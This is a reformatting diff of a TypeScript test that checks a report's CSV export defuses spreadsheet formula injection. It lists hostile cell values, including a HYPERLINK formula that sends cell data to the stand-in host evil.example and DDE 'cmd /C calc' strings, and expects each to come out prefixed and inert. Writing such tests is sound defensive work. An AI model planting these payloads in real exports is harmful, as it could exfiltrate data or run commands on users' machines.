@@ -31,10 +31,19 @@ function parseCsv(text: string): string[][] {
 }
 
 // A leading tab becomes a space (csvCell), which spreadsheets read as text.
-const HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|"/C calc"!A0', '-2+3', '\tTab=1+1', 'Line\nbreak, "quoted"'];
+const HOSTILE = [
+  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+  "+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|"/C calc"!A0',
+  '-2+3',
+  '\tTab=1+1',
+  'Line\nbreak, "quoted"',
+];
 
 describe('the report CSV files', () => {
-  const apps = HOSTILE.map((name, i) => app(`bbbbbbbb-0000-4000-8000-00000000000${i}`, name, { mailboxPermissions: [MAIL_READ_APP], credentials: [CREDENTIALS.secret] }));
+  const apps = HOSTILE.map((name, i) =>
+    app(`bbbbbbbb-0000-4000-8000-00000000000${i}`, name, { mailboxPermissions: [MAIL_READ_APP], credentials: [CREDENTIALS.secret] }),
+  );
   const findings = HOSTILE.map((name, i) => finding(`h${i}`, 'A1', { appDisplayName: name, summary: `=${name}` }));
   const report = buildWeeklyReport(reportInput({ inventory: inventory(apps), findings }));
 
@@ -42,7 +51,16 @@ describe('the report CSV files', () => {
     const rows = parseCsv(renderInventoryCsv(report)!);
     expect(rows[0]).toEqual(INVENTORY_CSV_COLUMNS);
     const names = rows.slice(1).map((r) => r[INVENTORY_CSV_COLUMNS.indexOf('displayName')]!);
-    expect(names.sort()).toEqual(["'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)*cmd|\"/C calc\"!A0", ' Tab=1+1', 'Line break, "quoted"'].sort());
+    expect(names.sort()).toEqual(
+      [
+        '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+        "'+cmd|' /C calc'!A0",
+        "'-2+3",
+        '\'@SUM(1+1)*cmd|"/C calc"!A0',
+        ' Tab=1+1',
+        'Line break, "quoted"',
+      ].sort(),
+    );
     for (const row of rows) expect(row).toHaveLength(INVENTORY_CSV_COLUMNS.length);
     for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
